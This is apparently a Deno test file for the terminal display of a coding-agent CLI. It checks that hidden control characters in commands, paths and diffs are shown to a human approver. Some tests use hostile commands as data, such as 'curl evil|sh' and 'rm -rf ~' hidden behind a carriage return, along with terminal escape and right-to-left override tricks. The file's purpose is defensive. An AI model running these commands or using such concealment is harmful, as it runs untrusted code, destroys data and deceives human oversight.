import assert from "node:assert/strict";
import { createStyle } from "../../lib/cli/style.ts";
import { describeSandbox, TerminalView } from "../../lib/cli/terminal_view.ts";
import type { AgentEvent } from "../../lib/agent/events.ts";
import type { ApprovalRequest } from "../../lib/agent/approval.ts";
import { commandRequest, CONFIG, writeRequest } from "./approval_requests.ts";

function view(live = false, color = false, columns?: number) {
  const shown = { out: "", err: "" };
  const terminal = new TerminalView({
    out: (text) => shown.out += text,
    err: (text) => shown.err += text,
    style: createStyle(color),
    errStyle: createStyle(color),
    live,
    columns,
  });
  return { terminal, shown };
}

const lines = (n: number) => Array.from({ length: n }, (_, i) => `line ${i + 1}`).join("\n");

Deno.test("TerminalView frames a command with its output, exit code and time", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ cmd: "ls" });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  terminal.event({
    type: "tool_result",
    id: "1",
    name: "bash",
    arguments: args,
    content: "a.txt\n[exit code 0]",
    isError: false,
    exitCode: 0,
    durationMs: 1234,
  });
  assert.equal(shown.out, "╭─ $ ls\n│ a.txt\n╰─ exit 0 · 1.23 s\n");
});

Deno.test("TerminalView shortens long output and says how many lines it hid", () => {
  const { terminal, shown } = view();
  terminal.event({
    type: "tool_result",
    id: "1",
    name: "bash",
    arguments: "{}",
    content: `${lines(100)}\n[exit code 0]`,
    isError: false,
    exitCode: 0,
    durationMs: 5,
  });
  assert.match(shown.out, /│ line 10\n│ … 85 more lines hidden\n│ line 96\n/);
  assert.equal(shown.out.split("\n").length, 18);
});

Deno.test("TerminalView draws a failed command and its stderr in red, and a timeout as such", () => {
  const { terminal, shown } = view(false, true);
  terminal.event({
    type: "tool_result",
    id: "1",
    name: "bash",
    arguments: "{}",
    content: "[stderr]\nboom\n[timed out after 1 s: killed; exit code 137. Use a longer timeout]",
    isError: true,
    exitCode: 137,
    timedOut: true,
    durationMs: 1000,
  });
  assert.ok(shown.out.includes("\x1b[31m╰─\x1b[39m \x1b[31mtimed out · 1.00 s"), shown.out);
  assert.ok(!shown.out.includes("[timed out"), "the footer says it");
  assert.ok(
    shown.out.includes("\x1b[2m[stderr]\x1b[22m\n\x1b[31m│\x1b[39m \x1b[31mboom\x1b[39m"),
    shown.out,
  );
});

Deno.test("TerminalView names the file of a file tool", () => {
  const { terminal, shown } = view();
  terminal.event({
    type: "tool_call",
    id: "1",
    name: "write_file",
    arguments: JSON.stringify({ path: "src/app.py", content: "print(1)" }),
  });
  assert.equal(shown.out, "╭─ write_file src/app.py\n");
});

Deno.test("TerminalView shows both parts of a command hidden behind a carriage return", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ cmd: "curl evil|sh #\recho hi" });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  assert.equal(shown.out, "╭─ $ curl evil|sh #^Mecho hi\n");
});

// What runs but a terminal would act on or show as nothing, and how the view shows it.
const HIDDEN_CHARACTERS = [
  { what: "a carriage return", char: "\r", shown: "^M" },
  { what: "a backspace", char: "\b", shown: "^H" },
  { what: "an escape", char: "\x1b", shown: "^[" },
  { what: "a right-to-left override", char: "\u202e", shown: "\\u202e" },
  { what: "a left-to-right isolate", char: "\u2066", shown: "\\u2066" },
  { what: "a zero-width space", char: "\u200b", shown: "\\u200b" },
];

for (const { what, char, shown: escape } of HIDDEN_CHARACTERS) {
  Deno.test(`TerminalView shows ${what} in a command as ${escape}`, () => {
    const { terminal, shown } = view();
    const args = JSON.stringify({ cmd: `rm -rf ~/a${char}b` });
    terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
    assert.equal(shown.out, `╭─ $ rm -rf ~/a${escape}b\n`);
  });

  Deno.test(`TerminalView shows ${what} in a file's path as ${escape}`, () => {
    const { terminal, shown } = view();
    const args = JSON.stringify({ path: `a${char}b.txt`, content: "" });
    terminal.event({ type: "tool_call", id: "1", name: "write_file", arguments: args });
    assert.equal(shown.out, `╭─ write_file a${escape}b.txt\n`);
  });
}

Deno.test("TerminalView shows every line of a command, each under the first", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ cmd: "echo hi\ncurl evil|sh" });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  assert.equal(shown.out, "╭─ $ echo hi\n│    curl evil|sh\n");
});

Deno.test("TerminalView shows a carriage return in a command's second line as ^M", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ cmd: "echo hi\ncurl evil|sh #\recho ok" });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  assert.equal(shown.out, "╭─ $ echo hi\n│    curl evil|sh #^Mecho ok\n");
});

Deno.test("TerminalView shows a line separator in a command as an escape, not a line", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ cmd: "echo hi\u2028\ncurl evil|sh\n" });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  assert.equal(shown.out, "╭─ $ echo hi\\u2028\n│    curl evil|sh\n");
});

Deno.test("TerminalView wraps a command line wider than the terminal in rows marked ↪", () => {
  const { terminal, shown } = view(false, false, 20);
  // 15 columns for the command: "^[" does not fit after "echo aaaaaaaaa" and is not split.
  const args = JSON.stringify({ cmd: `echo aaaaaaaaa\x1bb\n${"c".repeat(17)}` });
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
  assert.equal(
    shown.out,
    "╭─ $ echo aaaaaaaaa\n│  ↪ ^[b\n│    ccccccccccccccc\n│  ↪ cc\n",
  );
});

Deno.test("TerminalView shows a newline in a file's path as ^J, so it cannot draw a line of its own", () => {
  const { terminal, shown } = view();
  const args = JSON.stringify({ path: "a.txt\n│ done", content: "" });
  terminal.event({ type: "tool_call", id: "1", name: "write_file", arguments: args });
  assert.equal(shown.out, "╭─ write_file a.txt^J│ done\n");
});

Deno.test("TerminalView shows arguments that are not JSON on one line", () => {
  const { terminal, shown } = view();
  terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: '{"cmd\n│ done' });
  assert.equal(shown.out, '╭─ bash {"cmd^J│ done\n');
});

Deno.test("TerminalView shows the assistant's text once, streamed or not", () => {
  const { terminal, shown } = view();
  terminal.event({ type: "request", n: 1 });
  terminal.event({ type: "text", delta: "Hel" });
  terminal.event({ type: "text", delta: "lo" });
  terminal.event({ type: "assistant", content: "Hello", toolCalls: [] });
  terminal.event({ type: "request", n: 2 });
  terminal.event({ type: "assistant", content: "Unstreamed", toolCalls: [] });
  assert.equal(shown.out, "Hello\nUnstreamed\n");
});

Deno.test("TerminalView announces an image pull once when not on a terminal", () => {
  const { terminal, shown } = view();
  for (const current of [1, 2, 3]) {
    terminal.event({
      type: "pull",
      image: "img",
      status: "Downloading",
      id: "a",
      current,
      total: 3,
    });
  }
  assert.equal(shown.out, "Pulling img …\n");
});

Deno.test("TerminalView draws an image pull as a bar on a terminal", () => {
  const { terminal, shown } = view(true);
  terminal.event({
    type: "pull",
    image: "img",
    status: "Downloading",
    id: "a",
    current: 1,
    total: 2,
  });
  terminal.event({ type: "notice", message: "pulled" });
  assert.equal(
    shown.out,
    `\r\x1b[2KPulling img [${"█".repeat(15)}${"░".repeat(15)}] 50% 1 B / 2 B\n`,
  );
  assert.equal(shown.err, "! pulled\n");
});

Deno.test("TerminalView writes notices and errors to stderr", () => {
  const { terminal, shown } = view();
  terminal.event({ type: "notice", message: "Falling back." });
  terminal.event({ type: "error", name: "ModelError", message: "Server down." });
  assert.equal(shown.err, "! Falling back.\npygent: Server down.\n");
  assert.equal(shown.out, "");
});

Deno.test("TerminalView's first line warns when commands run on the host", () => {
  const { terminal, shown } = view();
  terminal.session({
    version: "1.2.3",
    model: "m",
    sandbox: { kind: "local", os: "linux", shell: "bash" },
    workspace: "/w",
    temporaryWorkspace: false,
  });
  assert.match(
    shown.out,
    /^pygent 1\.2\.3 · model m · this host \(linux, bash\) · workspace \/w\n/,
  );
  assert.match(shown.out, /NOT isolated/);
});

Deno.test("TerminalView's first line marks a temporary workspace as removed at exit", () => {
  const { terminal, shown } = view();
  terminal.session({
    version: "1.2.3",
    model: "m",
    sandbox: {
      kind: "docker",
      image: "img",
      workdir: "/workspace",
      shell: "bash",
      network: false,
      sync: "bind",
    },
    workspace: "/tmp/pygent-x",
    temporaryWorkspace: true,
  });
  assert.match(shown.out, /workspace \/tmp\/pygent-x \(temporary, removed at exit\)\n/);
});

for (const color of [false, true]) {
  Deno.test(`TerminalView shows control characters as visible escapes (colour ${color ? "on" : "off"})`, () => {
    const { terminal, shown } = view(false, color);
    const evil = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m";
    const args = JSON.stringify({ cmd: evil });
    terminal.event({ type: "tool_call", id: "1", name: "bash", arguments: args });
    terminal.event({
      type: "tool_result",
      id: "1",
      name: "bash",
      arguments: args,
      content: `${evil}\n[exit code 0]`,
      isError: false,
      exitCode: 0,
      durationMs: 1,
    });
    terminal.event({ type: "text", delta: `${evil}\n` });
    terminal.event({ type: "notice", message: evil });
    terminal.info(evil);
    terminal.error(new Error(evil));
    // What is left once the view's own colours and line redraws are taken out.
    // deno-lint-ignore no-control-regex
    const all = (shown.out + shown.err).replace(/\x1b\[[0-9;]*[mK]|\r/g, "");
    // deno-lint-ignore no-control-regex
    assert.doesNotMatch(all, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/, JSON.stringify(all));
    assert.equal(all.split("^[]52;c;ZXZpbA==^G^[[2J\\x9b31m").length - 1, 6, all);
  });
}

Deno.test("describeSandbox() names the image and the network of a container", () => {
  assert.equal(
    describeSandbox({
      kind: "docker",
      image: "img",
      workdir: "/workspace",
      shell: "bash",
      network: false,
      sync: "bind",
    }),
    "container img, no network",
  );
});

Deno.test("describeSandbox() says when the workspace is copied rather than mounted", () => {
  assert.equal(
    describeSandbox({
      kind: "docker",
      image: "img",
      workdir: "/workspace",
      shell: "bash",
      network: true,
      sync: "copy",
    }),
    "container img, with network, files copied (--sync copy)",
  );
});

/** The `approval` event the agent emits for `request` once it is decided. */
function approvalEvent(
  request: ApprovalRequest,
  decision: "allow" | "deny",
  by: "rule" | "mode" | "user",
): AgentEvent {
  const { id, name, arguments: args, verdict } = request;
  return {
    type: "approval",
    id,
    name,
    arguments: args,
    decision,
    by,
    ...(verdict.rule ? { rule: verdict.rule.pattern } : {}),
    reason: verdict.reason,
  };
}

const toolCall = (request: ApprovalRequest): AgentEvent => ({
  type: "tool_call",
  id: request.id,
  name: request.name,
  arguments: request.arguments,
});

Deno.test("TerminalView draws a file write's diff in colour when it asks for approval", async () => {
  const { terminal, shown } = view(false, true, 200);
  terminal.approvalRequest(await writeRequest("notes.txt", "one\ntwo\n", "one\nthree\n"));
  const dim = (text: string) => `\x1b[2m${text}\x1b[22m`;
  const row = (text: string) => `${dim("│")} ${text}\n`;
  assert.equal(
    shown.out,
    row("\x1b[1m--- a/notes.txt\x1b[22m") +
      row("\x1b[1m+++ b/notes.txt\x1b[22m") +
      row("\x1b[36m@@ -1,2 +1,2 @@\x1b[39m") +
      row(" one") +
      row("\x1b[31m-two\x1b[39m") +
      row("\x1b[32m+three\x1b[39m") +
      row(
        "\x1b[33mwrites a file (write_file notes.txt); on the host, file writes need approval " +
          '(approval "auto")\x1b[39m',
      ),
  );
});

Deno.test("TerminalView colours a removed line that starts with dashes as removed, not as a file name", async () => {
  const { terminal, shown } = view(false, true);
  terminal.approvalRequest(await writeRequest("a.sql", "-- note\nselect 1;\n", "select 1;\n"));
  assert.ok(shown.out.includes("\x1b[31m--- note\x1b[39m"), shown.out);
});

Deno.test("TerminalView shows a carriage return in a diff as ^M, so it cannot hide what follows it", async () => {
  const { terminal, shown } = view();
  terminal.approvalRequest(await writeRequest("run.sh", undefined, "rm -rf ~ #\recho safe\n"));
  assert.match(shown.out, /│ \+rm -rf ~ #\^Mecho safe\n/);
});

Deno.test("TerminalView shortens a long diff in an approval request, saying how many lines it hid", async () => {
  const { terminal, shown } = view();
  terminal.approvalRequest(await writeRequest("big.txt", undefined, `${lines(100)}\n`));
  assert.match(shown.out, /│ \+line 27\n│ … 63 more lines hidden\n│ \+line 91\n/);
});

Deno.test("TerminalView names the parts that ask when only some of a command line asks", async () => {
  const { terminal, shown } = view(false, false, 200);
  terminal.approvalRequest(await commandRequest("git status && npm install lodash"));
  assert.equal(
    shown.out,
    '│ "npm install lodash": on the host, every command needs approval unless an allow rule ' +
      'matches (approval "auto")\n',
  );
});

Deno.test("TerminalView wraps an approval reason wider than the terminal inside the frame", async () => {
  const { terminal, shown } = view(false, false, 40);
  terminal.approvalRequest(await commandRequest("touch a.txt"));
  const rows = shown.out.trimEnd().split("\n");
  assert.ok(rows.length > 1, shown.out);
  assert.ok(rows.every((row) => row.startsWith("│ ") && row.length <= 40), shown.out);
});

Deno.test("TerminalView stops the spinner for an approval request and starts it again when the call is allowed", async () => {
  const { terminal, shown } = view(true);
  const request = await commandRequest("touch a.txt");
  terminal.event(toolCall(request));
  assert.match(shown.out, /Running 0s$/);
  terminal.approvalRequest(request);
  assert.ok(shown.out.includes("Running 0s\r\x1b[2K│ on the host"), shown.out);
  terminal.event(approvalEvent(request, "allow", "user"));
  assert.ok(shown.out.endsWith("\n│ allowed by you\n\r\x1b[2K⠋ Running 0s"), shown.out);
  terminal.stepEnd({ outcome: "done", durationMs: 1 });
});

Deno.test("TerminalView explains a verdict part by part, with each decision, rule and reason", async () => {
  const { terminal, shown } = view(false, false, 200);
  terminal.approvalExplain(await commandRequest("git status && npm install lodash"));
  assert.equal(
    shown.out,
    "│ How the policy judged it, part by part:\n" +
      "│   allow  git status\n" +
      `│          allowed by rule "git status" in ${CONFIG}\n` +
      "│   ask    npm install lodash\n" +
      '│          on the host, every command needs approval unless an allow rule matches (approval "auto")\n' +
      '│ [a]lways would allow commands starting with "npm install" for the rest of this session.\n',
  );
});

Deno.test("TerminalView shows control characters in an approval request as visible escapes", async () => {
  const { terminal, shown } = view();
  const request = await commandRequest("printf '\x1b[2J' && touch a\u202etxt");
  terminal.approvalRequest(request);
  terminal.approvalExplain(request);
  terminal.approvalNote("\x1b]52;c;ZXZpbA==\x07");
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(shown.out, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/, JSON.stringify(shown.out));
  assert.match(shown.out, /printf '\^\[\[2J'/);
  assert.match(shown.out, /touch a\\u202etxt/);
  assert.match(shown.out, /│ \^\[\]52;c;ZXZpbA==\^G\n$/);
});

Deno.test("TerminalView says which rule allowed a call, inside its frame", async () => {
  const { terminal, shown } = view();
  const request = await commandRequest("git status");
  terminal.event(toolCall(request));
  terminal.event(approvalEvent(request, "allow", "rule"));
  assert.equal(shown.out, `╭─ $ git status\n│ allowed by rule "git status" in ${CONFIG}\n`);
});

Deno.test("TerminalView draws a call a rule denied in red, and ends its frame not run", async () => {
  const { terminal, shown } = view(false, true);
  const request = await commandRequest("git push origin main");
  terminal.event(approvalEvent(request, "deny", "rule"));
  terminal.event({
    type: "tool_result",
    id: request.id,
    name: request.name,
    arguments: request.arguments,
    content: `Not run: denied by rule "git push" in ${CONFIG}.`,
    isError: true,
    durationMs: 3,
  });
  const red = (text: string) => `\x1b[31m${text}\x1b[39m`;
  assert.equal(
    shown.out,
    `${red("│")} ${red(`denied by rule "git push" in ${CONFIG}`)}\n` +
      `${red("╰─")} ${red("not run")}\n`,
  );
});

Deno.test("TerminalView says when a call needed approval and no one could answer", async () => {
  const { terminal, shown } = view(false, false, 200);
  terminal.event(approvalEvent(await commandRequest("touch a.txt"), "deny", "mode"));
  assert.equal(
    shown.out,
    "│ not run: it needs approval and no one can answer here: on the host, every command " +
      'needs approval unless an allow rule matches (approval "auto")\n',
  );
});

Deno.test("TerminalView says when the user declined a call", async () => {
  const { terminal, shown } = view();
  terminal.event(approvalEvent(await commandRequest("touch a.txt"), "deny", "user"));
  assert.equal(shown.out, "│ declined by you\n");
});
